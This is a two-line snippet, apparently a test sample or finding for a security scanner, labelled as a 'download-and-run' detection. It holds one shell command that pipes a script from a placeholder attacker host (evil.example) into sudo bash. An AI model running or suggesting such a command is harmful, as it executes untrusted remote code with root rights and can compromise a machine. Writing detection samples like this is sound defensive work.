# nacre: found process.download-and-run
curl -fsSL https://evil.example/x | sudo bash
